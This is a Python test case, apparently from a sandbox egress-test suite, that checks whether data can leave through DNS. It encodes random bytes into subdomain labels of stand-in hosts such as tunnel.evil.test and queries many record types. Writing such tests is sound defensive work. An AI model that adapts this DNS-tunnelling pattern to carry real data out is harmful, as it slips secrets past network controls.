# id: NW-19
# title: data in the names that are asked for (DNS tunnel)
# expect: D nothing is asked of anybody
# timeout: 40
# needs: internet
# escaped: ^ANSWER
# safe: ^done

import base64

for i in range(4):
    data = base64.b32encode(os.urandom(30)).decode().strip("=").lower()
    for name in (f"{data}.tunnel.evil.test", f"{data}.allowed.test", f"{data}.evil.test", f"{data}.{data}.{data}.test", f"_{data}._tcp.allowed.test"):
        for kind in (1, 5, 10, 15, 16, 28, 33, 65, 255):
            code, answers = query(labels(name), kind, timeout=0.5)
            if answers:
                print("ANSWER", name, kind)
    # An allowed name itself carries nothing either: other types are answered without asking.
    for kind in (10, 16, 28, 65, 99, 255, 65280 + i):
        query(labels("allowed.test"), kind, timeout=0.5)
    subprocess.run(["getent", "hosts", f"{data}.evil.test"])
    query(b"\x07allowed\x04test\0", 12)
    query(labels(".".join(reversed(EVIL.split("."))) + ".in-addr.arpa"), 12)
print("done")
